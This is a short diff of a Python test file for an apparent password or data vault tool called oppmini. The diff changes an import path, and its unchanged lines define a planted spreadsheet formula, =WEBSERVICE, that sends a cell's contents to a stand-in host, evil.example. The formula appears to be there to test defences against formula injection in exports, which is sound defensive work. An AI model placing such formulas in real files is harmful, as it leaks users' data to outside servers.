@@ -7,7 +7,7 @@ import io
 import pytest
 
 from conftest import Vault
-from oppmini import exporters, importers
+from oppmini.transfer import exporters, importers
 
 PLANTED = '=WEBSERVICE("https://evil.example/x?p="&J3)'
 
